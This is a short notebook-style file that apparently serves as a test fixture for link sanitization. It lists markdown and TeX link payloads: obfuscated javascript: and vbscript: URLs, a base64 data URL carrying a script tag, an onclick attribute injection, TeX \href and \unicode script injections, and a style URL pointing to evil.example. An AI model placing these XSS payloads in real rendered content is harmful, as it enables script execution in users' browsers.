"""Writes links that act when they are clicked, in every way in which markdown and TeX spell a link."""
# %% markdown
[a](javascript:alert(1)) [b](JaVaScRiPt&#58;alert(1)) [c](vbscript:x) [d](data:text/html;base64,PHNjcmlwdD4=) [e][1]
[f](&#1;javascript:alert(1)) [g](java&Tab;script:alert(1)) <javascript:alert(1)> ![h](javascript:alert(1))
[i](javascript&colon;alert(1)) [j](\x6aavascript:alert(1)) [k]( javascript:alert(1)) [l](//evil.example "x" onclick=x)
$\href{javascript:alert(1)}{x}$ $\style{background:url(https://evil.example)}{x}$ $\unicode{<img src=x onerror=alert(1)>}$

[1]: javascript:alert(2) "x"
